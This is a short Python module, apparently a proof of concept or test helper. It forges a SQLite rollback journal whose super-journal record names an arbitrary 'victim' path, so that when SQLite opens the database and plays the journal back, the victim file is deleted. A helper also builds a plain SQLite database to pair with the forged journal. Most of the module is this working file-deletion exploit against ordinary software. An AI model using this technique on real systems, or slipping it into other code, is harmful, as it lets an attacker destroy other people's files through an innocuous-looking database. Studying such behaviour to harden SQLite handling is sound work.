"""A forged SQLite journal: opening its database deletes a file of another name."""

from __future__ import annotations

import sqlite3
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
"""The first bytes of SQLite's journals, and the last bytes of one that names another (file format).
"""
_SECTOR, _PAGE = 512, 4096


def forge_journal(database: Path, victim: Path) -> Path:
    """A journal of no pages beside a database, which says that it belongs to a transaction over
    several, listed in the file ``victim``: once it is played back, SQLite removes that list."""
    pages = database.stat().st_size // _PAGE
    head = MAGIC + struct.pack(">5I", 0, 1, pages, _SECTOR, _PAGE)
    name = str(victim).encode()
    end = struct.pack(">I", (1 << 30) // _PAGE + 1) + name
    end += struct.pack(">2I", len(name), sum(name)) + MAGIC
    path = database.with_name(f"{database.name}-journal")
    path.write_bytes(head.ljust(_SECTOR, b"\0") + end)
    return path


def make_database(path: Path, *statements: str) -> None:
    """A database, closed."""
    connection = sqlite3.connect(path)
    connection.execute(f"PRAGMA page_size = {_PAGE}")
    for statement in statements or ("CREATE TABLE t (x)",):
        connection.execute(statement)
    connection.commit()
    connection.close()
